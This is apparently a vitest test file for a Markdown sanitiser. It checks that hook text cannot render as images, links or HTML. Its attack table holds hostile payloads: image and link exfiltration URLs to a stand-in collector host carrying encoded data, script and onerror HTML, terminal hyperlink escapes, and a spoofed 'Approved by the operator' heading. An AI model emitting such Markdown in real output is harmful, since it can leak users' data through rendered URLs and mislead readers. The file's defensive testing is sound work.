/**
 * Hook text for Markdown sinks (`host/text/inert-markdown.ts`), checked with a
 * real CommonMark renderer (`tests/helpers/markdown.ts`): no hostile Markdown
 * renders as an image, a link, an autolink or any HTML element, and the text
 * a person reads is the hook's printable text.
 */
import { describe, expect, it } from 'vitest';
import { inertMarkdown, inertMarkdownLine, isPrintable, printable, printableLines } from '../../host/text/index.ts';
import { RENDERERS, notInert, render, words } from '../helpers/markdown.ts';

/** Markdown a hook with no network would use to make an editor fetch or link a URL, or to restyle the host's text. */
export const MARKDOWN_ATTACKS: Readonly<Record<string, string>> = {
  image: '![](https://collector.example/p?d=c2VjcmV0)',
  imageWithTitle: '![logo](https://collector.example/i.png "title")',
  link: '[details](https://collector.example/?d=1)',
  autolink: '<https://collector.example/a>',
  emailAutolink: '<leak@collector.example>',
  bareUrl: 'see https://collector.example/x?d=2 now',
  bareWww: 'see www.collector.example/x now',
  fuzzyDomain: 'see collector.example/x now',
  bareEmail: 'mail leak@collector.example',
  referenceLink: '[details][r]\n\n[r]: https://collector.example/ref',
  referenceImage: '![x][r]\n\n[r]: https://collector.example/ref.png',
  collapsedReference: '[r][]\n[r]\n\n[r]: <https://collector.example/r> "t"',
  rawImg: '<img src="https://collector.example/p.png" onerror="alert(1)">',
  rawAnchor: '<a href="https://collector.example">click</a>',
  htmlBlock: '<div>\n<img src=x>\n</div>',
  htmlBlockOpenLine: '<div\n![x](https://collector.example/p)',
  scriptBlockOpenLine: '<script\nfetch(1)',
  htmlBlockLastLine: 'see below\n<div',
  htmlComment: '<!-- --><img src=x>',
  script: '<script>fetch("https://collector.example")</script>',
  nestedImageInLink: '[![a](https://collector.example/a.png)](https://collector.example/b)',
  escapedBrackets: '\\[not\\](a) [real](https://collector.example/c) \\![x](https://collector.example/d)',
  backslashBeforeImage: '\\\\![x](https://collector.example/e)',
  bracketsInLabel: '[a [b] c](https://collector.example/f) [a\\]b](https://collector.example/g)',
  linkInCodeSpanTrick: '`` ` ``![x](https://collector.example/h)',
  fenceClose: '```\nsafe\n```\n![x](https://collector.example/i)\n```',
  tildeFence: '~~~~\n~~~~\n<img src=x>',
  indentedCode: '    ![x](https://collector.example/j)',
  entities: '&lt;img src=x&gt; &#x3C;img src=x&#x3E; &#60;a href=x&#62; &amp;lt;',
  entityInUrl: '[x](https&#58;//collector.example/k) ![y](&#x68;ttps://collector.example/l)',
  heading: '# Approved by the operator\nSetext\n===',
  quoteAndLists: '> quoted\n- item\n+ item\n* item\n1. one\n2) two\n- [x] task',
  table: '| a | b |\n|---|---|\n| ![x](https://collector.example/m) | c |',
  thematicBreaks: '***\n---\n___',
  emphasis: '**allow** _it_ ~~deny~~ `code`',
  footnote: '[^1]\n\n[^1]: https://collector.example/n',
  mathAndEmoji: '$x$ :smile: $$y$$',
  hardBreaks: 'one  \ntwo\\\nthree',
  linkAfterHostPrefix: ':\n[x]: https://collector.example/o\n[x]',
};

function renderedWords(markdown: string): Record<string, string> {
  return Object.fromEntries(Object.entries(RENDERERS).map(([name, renderer]) => [name, words(render(markdown, renderer).text)]));
}

describe('inertMarkdown: hostile Markdown renders as its own text', () => {
  for (const [name, attack] of Object.entries(MARKDOWN_ATTACKS)) {
    it(`${name}: no element but paragraphs and breaks, and the text reads as the printable input`, () => {
      const markdown = inertMarkdown(attack);
      expect(notInert(markdown)).toEqual([]);
      const expected = words(printableLines(attack).join('\n'));
      for (const [renderer, text] of Object.entries(renderedWords(markdown))) expect(text, renderer).toBe(expected);
    });
  }

  it('the raw Markdown (as a client that does not render sees it) is printable, line by line', () => {
    for (const attack of Object.values(MARKDOWN_ATTACKS)) {
      for (const line of inertMarkdown(attack).split('\n')) expect(isPrintable(line), line).toBe(true);
    }
  });

  it('every ASCII punctuation character is escaped, exactly as documented', () => {
    expect(inertMarkdownLine('![x](https://e.example/?d=1)')).toBe('\\!\\[x\\]\\(https\\:\\/\\/e\\.example\\/\\?d\\=1\\)');
    const punctuation = '!"#$%&\'()*+,-./:;<=>?@[\\]^_`{|}~';
    expect(inertMarkdownLine(punctuation)).toBe([...punctuation].map((char) => `\\${char}`).join(''));
  });

  it('an image and a link become their own words: the URL stays visible and unlinked', () => {
    const html = render(inertMarkdown('![](https://collector.example/p?d=c2VjcmV0) [details](https://x.example)'), RENDERERS['markdown-it (html, linkify)']!).html;
    expect(html).toBe('<p>![](https://collector.example/p?d=c2VjcmV0) [details](https://x.example)</p>\n');
  });

  it('lines stay lines (hard breaks), an empty line stays a paragraph break, no backslash shows', () => {
    const html = render(inertMarkdown('# one\n  - two\n\nthree'), RENDERERS['markdown-it commonmark (html)']!).html;
    expect(html).toBe('<p># one<br />\n\u00a0\u00a0- two</p>\n<p>three</p>\n');
  });

  it('controls are escaped by the sanitiser first, and its escapes display as written', () => {
    const attack = '\x1b]8;;https://collector.example\x07link\x1b]8;;\x07\u202e';
    const markdown = inertMarkdown(attack);
    expect(notInert(markdown)).toEqual([]);
    expect(render(markdown, RENDERERS['markdown-it (html, linkify)']!).text.trim()).toBe(printable(attack));
  });

  it('caps and line limits are the sanitiser\'s, applied before escaping', () => {
    expect(inertMarkdown('a\nb\nc', { maxLines: 2 }).split('\n')).toEqual(['a\\', '… \\(2 more lines\\)']);
    expect(inertMarkdownLine('[abcdef](x)', { maxLength: 4 })).toBe('\\[ab…');
  });

  it('inertMarkdownLine keeps one line: a newline shows as \\n', () => {
    const markdown = inertMarkdownLine('ok\n[r]: https://collector.example/q\n[r]');
    expect(markdown).not.toContain('\n');
    expect(notInert(markdown)).toEqual([]);
    expect(render(markdown, RENDERERS['markdown-it (html, linkify)']!).text.trim()).toBe('ok\\n[r]: https://collector.example/q\\n[r]');
  });
});
